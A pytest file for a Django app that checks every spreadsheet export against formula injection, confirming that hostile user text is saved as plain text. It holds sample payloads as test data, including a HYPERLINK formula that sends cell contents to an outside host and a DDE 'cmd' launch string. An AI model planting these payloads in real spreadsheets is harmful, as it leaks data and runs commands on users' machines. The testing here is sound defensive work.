"""Every spreadsheet ieum writes keeps people's text as text (issue 11, formula injection).

Each download and command that writes an XLSX is produced for real, from data holding a
hostile value (a quote line's name, an enterprise's name, a budget line's name, an invoice's
payer …); the file is read back with openpyxl: no cell is a formula, and the hostile text is
there as text. `EXPORTS` names every download; a view that sends an XLSX without being listed
fails `test_every_spreadsheet_download_is_listed`, and a module that builds a workbook or a
CSV writer itself (not through ieum.core.spreadsheets) fails the source check.
"""

import ast
import csv
import datetime as dt
import inspect
import io
import zoneinfo
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook

import ieum
from ieum.core.choices import Role
from ieum.core.imports import import_job_create, import_job_run
from ieum.core.permissions import system_actor
from ieum.core.spreadsheets import Formula, csv_text, new_workbook, workbook_bytes, write_csv
from ieum.core.spreadsheets import append as sheet_append
from ieum.core.tabular import ImportReport, RowError

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x.example/?"&A1,"click")'
# Each starts a formula somewhere (Excel, LibreOffice, Google Sheets).
RISKY = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
SEOUL = zoneinfo.ZoneInfo("Asia/Seoul")


def cells(data: bytes):
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_safe(data: bytes, *hostile: str) -> list:
    """No formula anywhere; each hostile value present in a text cell."""
    found = cells(data)
    formulas = [(cell.coordinate, cell.value) for cell in found if cell.data_type == "f"]
    assert formulas == []
    for text in hostile:
        holders = [c for c in found if isinstance(c.value, str) and text in c.value]
        assert holders, f"{text!r} is not in the file"
        assert all(c.data_type == "s" for c in holders)
    return found


# --- the downloads ------------------------------------------------------------------------


def _quote(client, make_user):
    from ieum.mall.services import orders as services
    from ieum.mall.tests.factories import BuyerFactory, ProductFactory, VendorMemberFactory

    product = ProductFactory(name="친환경 세제", price_won=8_000, unit="통", min_order_quantity=1)
    seller = VendorMemberFactory(enterprise=product.vendor.enterprise)
    buyer = BuyerFactory()
    [request] = services.quote_request_create(user=buyer, items=[(product, 3)])
    services.quote_submit(
        request=request,
        user=seller,
        lines=[
            {"product": product, "quantity": 3, "unit_price_won": 7_500},
            {"name": HOSTILE, "unit": "@SUM(1+1)", "quantity": 1, "unit_price_won": 30_000},
        ],
        valid_until=timezone.localdate() + dt.timedelta(days=14),
        note="-2+3",
    )
    client.force_login(buyer)
    response = client.get(reverse("mall:quote-xlsx", args=[request.pk]))
    return response, (HOSTILE, "@SUM(1+1)", "-2+3")


def _records(client, make_user, *, staff: bool):
    from ieum.mall.tests.factories import (
        BuyerFactory,
        ProductFactory,
        VendorFactory,
        placed_order,
    )

    vendor = VendorFactory(enterprise__name=HOSTILE)
    buyer = BuyerFactory(institution__name="+은평구청")
    placed_order(
        institution=buyer.institution,
        vendor=vendor,
        placed_at=dt.date(2022, 3, 2),
        lines=[(ProductFactory(vendor=vendor), 1, 50_000)],
    )
    client.force_login(make_user(Role.STAFF) if staff else buyer)
    name = "mall:console-record-download" if staff else "mall:record-download"
    query = {"start": "2022-01-01", "end": "2022-09-30", "format": "xlsx"}
    # The staff file lists institutions; the buyer's lists the vendor on each order.
    return client.get(reverse(name), query), (("+은평구청",) if staff else (HOSTILE, "+은평구청"))


def _enterprise_export(client, make_user):
    from ieum.enterprises.tests.factories import EnterpriseFactory

    EnterpriseFactory(name=HOSTILE, representative="@대표", address="-서울")
    client.force_login(make_user(Role.STAFF))
    return client.get(reverse("enterprises:export")), (HOSTILE, "@대표", "-서울")


def _enterprise_import_report(client, make_user):
    from ieum.enterprises.tasks import ENTERPRISES

    staff = make_user(Role.STAFF)
    upload = SimpleUploadedFile(
        "기업.csv", f"기업명,사업자등록번호,자치구\n{HOSTILE},{HOSTILE},은평구\n".encode()
    )
    job = import_job_run(import_job_create(kind=ENTERPRISES, upload=upload, created_by=staff).pk)
    assert job.errors
    client.force_login(staff)
    return client.get(reverse("enterprises:import-report", args=[job.pk])), ()


def _vendor_member(make_user, member_enterprise):
    from ieum.mall.tests.factories import VendorFactory

    return make_user(Role.ENTERPRISE), VendorFactory(enterprise=member_enterprise)


def _product_upload_report(client, make_user, member_enterprise):
    from ieum.mall.tasks import PRODUCTS

    seller, vendor = _vendor_member(make_user, member_enterprise)
    upload = SimpleUploadedFile("상품.csv", f"상품명,판매가\n{HOSTILE},{HOSTILE}\n".encode())
    job = import_job_create(
        kind=PRODUCTS, upload=upload, created_by=seller, options={"vendor_id": vendor.pk}
    )
    job = import_job_run(job.pk)
    assert job.errors
    client.force_login(seller)
    return client.get(reverse("mall:product-upload-job-report", args=[job.pk])), ()


def _product_template(client, make_user, member_enterprise):
    client.force_login(_vendor_member(make_user, member_enterprise)[0])
    return client.get(reverse("mall:product-upload-template")), ()


def _budget(client, make_user, *, ledger: bool):
    from ieum.budget.importing import budget_import
    from ieum.budget.models import BudgetLine
    from ieum.budget.services import expenditure_record
    from ieum.budget.tests.factories import SMALL, budget_table

    rows = [(*row[:3], HOSTILE if row[0] == "A1" else row[3], row[4]) for row in SMALL]
    assert budget_import(actor=system_actor(), year=2024, table=budget_table(rows)).accepted
    line = BudgetLine.objects.get(fiscal_year__year=2024, code="A1")
    staff = make_user(Role.STAFF)
    expenditure_record(
        line=line,
        spent_on=dt.date(2024, 3, 2),
        amount_won=50_000,
        counterparty="@거래처",
        description=HOSTILE,
        actor=system_actor(),
    )
    expenditure_record(
        line=line,
        spent_on=dt.date(2024, 3, 9),
        amount_won=-20_000,
        counterparty="-반납",
        actor=system_actor(),
    )
    client.force_login(staff)
    if ledger:
        response = client.get(reverse("budget:expenditure-export"), {"year": 2024})
        # A refund is a negative *number* and stays one.
        amounts = [c.value for c in cells(response.content) if c.column == 3 and c.row > 1]
        assert sorted(amounts) == [-20_000, 50_000]
        return response, (HOSTILE, "@거래처", "-반납")
    query = {"year": 2024, "as_of": "2024-12-31"}
    return client.get(reverse("budget:budget-export"), query), (HOSTILE,)


def _settlement(client, make_user):
    from ieum.organization.tests.factories import FacilityFactory
    from ieum.spaces.choices import BookingStatus
    from ieum.spaces.services import fees
    from ieum.spaces.tests.factories import BookingFactory, RoomFactory

    facility = FacilityFactory(name="가락 먹거리 융합클러스터")
    start = dt.datetime(2022, 10, 5, 14, tzinfo=SEOUL)
    booking = BookingFactory(
        room=RoomFactory(facility=facility),
        starts_at=start,
        ends_at=start + dt.timedelta(hours=2),
        organizer=HOSTILE,
        title="@행사",
        fee_won=120_000,
        status=BookingStatus.CONFIRMED,
    )
    staff = make_user(Role.STAFF)
    fees.invoice_for_booking(booking=booking, actor=staff)
    client.force_login(staff)
    query = {"facility": facility.pk, "month": "2022-10", "format": "xlsx"}
    return client.get(reverse("spaces:settlement"), query), (HOSTILE,)


def _usage(client, make_user):
    from ieum.organization.tests.factories import FacilityFactory

    facility = FacilityFactory(name=HOSTILE)
    client.force_login(make_user(Role.STAFF))
    query = {"facility": facility.pk, "start": "2022-05-01", "end": "2022-05-31", "format": "xlsx"}
    # Labels and counts only: no one's text reaches this file, but it holds no formula either.
    return client.get(reverse("spaces:usage"), query), ()


VENDOR: list = []  # the signed-in vendor's enterprise, for the vendor's downloads
EXPORTS = {
    "mall:quote-xlsx": _quote,
    "mall:record-download": lambda c, m: _records(c, m, staff=False),
    "mall:console-record-download": lambda c, m: _records(c, m, staff=True),
    "mall:product-upload-job-report": lambda c, m: _product_upload_report(c, m, *VENDOR),
    "mall:product-upload-template": lambda c, m: _product_template(c, m, *VENDOR),
    "enterprises:export": _enterprise_export,
    "enterprises:import-report": _enterprise_import_report,
    "budget:budget-export": lambda c, m: _budget(c, m, ledger=False),
    "budget:expenditure-export": lambda c, m: _budget(c, m, ledger=True),
    "spaces:settlement": _settlement,
    "spaces:usage": _usage,
}
# Downloads whose XLSX is checked elsewhere in this file, with the reason.
# URL names whose view sends another format under that name.
NOT_XLSX = {"mall:quote-hwpx"}
CHECKED_APART = {
    # The report is built from the whole demo; its renderer is fed hostile text directly
    # (test_the_report_workbook_keeps_text_as_text) and the view sends the stored bytes.
    "reports:report-file-download",
}


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_each_download_keeps_hostile_text_as_text(name, client, make_user, member_enterprise):
    VENDOR[:] = [member_enterprise]
    response, hostile = EXPORTS[name](client, make_user)

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert_safe(b"".join(response) if response.streaming else response.content, *hostile)


def _url_patterns(patterns, prefix=""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            namespace = f"{pattern.namespace}:" if pattern.namespace else ""
            yield from _url_patterns(pattern.url_patterns, prefix + namespace)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield prefix + pattern.name, pattern


def _sends_xlsx(pattern: URLPattern) -> bool:
    """The view's source, or a function of its module it calls, sends an XLSX."""
    view = getattr(pattern.callback, "view_class", pattern.callback)
    try:
        source = inspect.getsource(view)
        module = inspect.getmodule(view)
    except (OSError, TypeError):
        return False
    senders = {"xlsx_response", "download_response"} | {
        name
        for name, value in vars(module).items()
        if inspect.isfunction(value)
        and value.__module__.startswith("ieum.")
        and "xlsx_response(" in inspect.getsource(value)
    }
    return "report_file.content_type" in source or any(f"{s}(" in source for s in senders)


def test_every_spreadsheet_download_is_listed():
    """A new view that sends an XLSX must be added to EXPORTS (or CHECKED_APART)."""
    found = {name for name, p in _url_patterns(get_resolver().url_patterns) if _sends_xlsx(p)}
    # The upload page's view class is the report view's parent, not a download itself.
    found.discard("mall:product-upload")
    found -= NOT_XLSX

    assert found == set(EXPORTS) | CHECKED_APART


# --- the commands -------------------------------------------------------------------------


def test_export_enterprises_command(tmp_path):
    from ieum.enterprises.tests.factories import EnterpriseFactory

    EnterpriseFactory(name=HOSTILE)
    out = tmp_path / "registry.xlsx"

    call_command("export_enterprises", str(out), stdout=io.StringIO())

    assert_safe(out.read_bytes(), HOSTILE)


@pytest.mark.parametrize(
    ("command", "header"),
    [
        ("import_enterprises", "기업명,사업자등록번호,자치구"),
        ("import_products", "상품명,판매가"),
    ],
)
def test_import_commands_write_their_xlsx_report_as_text(command, header, tmp_path):
    columns = header.count(",") + 1
    source = tmp_path / "in.csv"
    source.write_text(header + "\n" + ",".join([HOSTILE] * columns) + "\n", encoding="utf-8")
    report = tmp_path / "report.xlsx"

    with pytest.raises(CommandError):
        call_command(
            command,
            str(source),
            "--report",
            str(report),
            stdout=io.StringIO(),
            stderr=io.StringIO(),
        )

    assert_safe(report.read_bytes())


def test_report_command_writes_its_xlsx_through_the_renderer():
    from ieum.reports.management.commands import report

    # The command saves what the renderer made (checked below), byte for byte.
    assert "produced.content" in inspect.getsource(report.Command.handle)


def test_the_report_workbook_keeps_text_as_text():
    from ieum.reports.model import Cell, CellKind, Report, Section, Table, text_cell
    from ieum.reports.renderers import render

    table = Table(
        key="t",
        title=HOSTILE,
        columns=("구분", "금액"),
        rows=((text_cell(HOSTILE), Cell(text="-1,000", value=-1_000_000, kind=CellKind.WON)),),
        unit="@단위",
        note="+비고",
    )
    report = Report(
        title="보고",
        subtitle="",
        year=2022,
        as_of=dt.date(2022, 10, 31),
        sections=(Section("s", "1", (table,)),),
    )

    found = assert_safe(render(report, "xlsx"), HOSTILE, "@단위", "+비고")
    # A negative amount is a number, not text.
    assert -1_000_000 in [cell.value for cell in found]


# --- the writers themselves ---------------------------------------------------------------


@pytest.mark.parametrize("text", RISKY)
def test_every_risky_start_is_text_in_xlsx_and_quoted_in_csv(text):
    workbook = new_workbook()
    sheet_append(workbook.active, [text, -5, 1.5, dt.date(2022, 1, 2)])
    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active

    assert [c.data_type for c in sheet[1]] == ["s", "n", "n", "d"]
    assert (
        sheet["A1"].value == text.replace("\r", "\n") or sheet["A1"].value.strip() == text.strip()
    )
    row = next(
        csv.reader(
            io.StringIO(write_csv(["a", "b"], [[text, -5]]).decode()[1:].split("\r\n", 1)[1])
        )
    )
    assert row == ["'" + text, "-5"]


def test_a_formula_ieum_writes_on_purpose_stays_a_formula():
    workbook = new_workbook()
    sheet_append(workbook.active, [1, 2, Formula("=SUM(A1:B1)")])
    workbook.active["D1"] = HOSTILE  # set around the door: saved as text all the same

    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active

    assert (sheet["C1"].data_type, sheet["C1"].value) == ("f", "=SUM(A1:B1)")
    assert (sheet["D1"].data_type, sheet["D1"].value) == ("s", HOSTILE)


def test_control_characters_do_not_break_a_download():
    workbook = new_workbook()
    sheet_append(workbook.active, ["기업\x00명\x1b", "줄\n바꿈\t탭"])

    sheet = load_workbook(io.BytesIO(workbook_bytes(workbook))).active

    assert [c.value for c in sheet[1]] == ["기업명", "줄\n바꿈\t탭"]


def test_the_import_report_keeps_text_as_text():
    report = ImportReport(errors=[RowError(2, HOSTILE, f"'{HOSTILE}'은(는) 숫자가 아닙니다.")])

    assert_safe(report.to_xlsx(), HOSTILE)


def test_csv_text_leaves_numbers_and_plain_text_alone():
    assert [csv_text(v) for v in (-5, 1.5, "은평구", None, dt.date(2022, 1, 2))] == [
        "-5",
        "1.5",
        "은평구",
        "",
        "2022-01-02",
    ]


# --- nothing writes a spreadsheet around the door ----------------------------------------

DOOR = Path(ieum.__file__).parent / "core" / "spreadsheets.py"


def _bypasses(path: Path) -> list[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"import {a.name}" for a in node.names if a.name == "Workbook"]
        if (
            isinstance(node, ast.Attribute)
            and node.attr in ("writer", "DictWriter")
            and isinstance(node.value, ast.Name)
            and node.value.id == "csv"
        ):
            found.append(f"csv.{node.attr}")
        if isinstance(node, ast.Attribute) and node.attr == "Workbook":
            found.append("openpyxl.Workbook")
    return found


def test_no_module_writes_a_spreadsheet_around_the_door():
    root = Path(ieum.__file__).parent
    offenders = {
        str(path.relative_to(root)): found
        for path in root.rglob("*.py")
        if "tests" not in path.parts and path != DOOR and (found := _bypasses(path))
    }

    assert offenders == {}
